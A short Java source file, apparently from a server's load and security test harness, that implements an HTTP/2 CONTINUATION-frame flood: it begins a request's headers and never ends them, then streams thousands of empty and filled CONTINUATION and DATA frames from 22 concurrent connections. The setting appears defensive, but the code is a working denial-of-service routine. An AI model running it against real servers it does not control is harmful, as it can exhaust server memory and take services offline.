package dev.jobwise.attack;

import static dev.jobwise.server.testing.Http2Bytes.CONTINUATION;
import static dev.jobwise.server.testing.Http2Bytes.DATA;
import static dev.jobwise.server.testing.Http2Bytes.HEADERS;
import static dev.jobwise.server.testing.Http2Bytes.concat;
import static dev.jobwise.server.testing.Http2Bytes.frame;
import static dev.jobwise.server.testing.Http2Bytes.headers;
import static dev.jobwise.server.testing.Http2Bytes.start;
import static dev.jobwise.server.testing.Http2Bytes.times;

import java.time.Duration;

/** Begins the headers of a request and never ends them, in empty and in full frames. */
final class ContinuationAttack implements Attack {

  @Override
  public String name() {
    return "continuations";
  }

  @Override
  public void run(Target target, Duration length) throws InterruptedException {
    byte[] begin = concat(start(), frame(HEADERS, 0, 1, headers("GET", "/health")));
    byte[] empty = times(4000, frame(CONTINUATION, 0, 1));
    byte[] full = times(100, frame(CONTINUATION, 0, 1, new byte[] {0, 1, (byte) 97, 1, (byte) 98}));
    byte[] data = times(4000, frame(DATA, 0, 1));
    byte[][] floods = {empty, full, data};
    new Crowd(22, true, Duration.ofMillis(1))
        .speak(target, length, turn -> turn == 0 ? begin : floods[turn % floods.length]);
  }
}
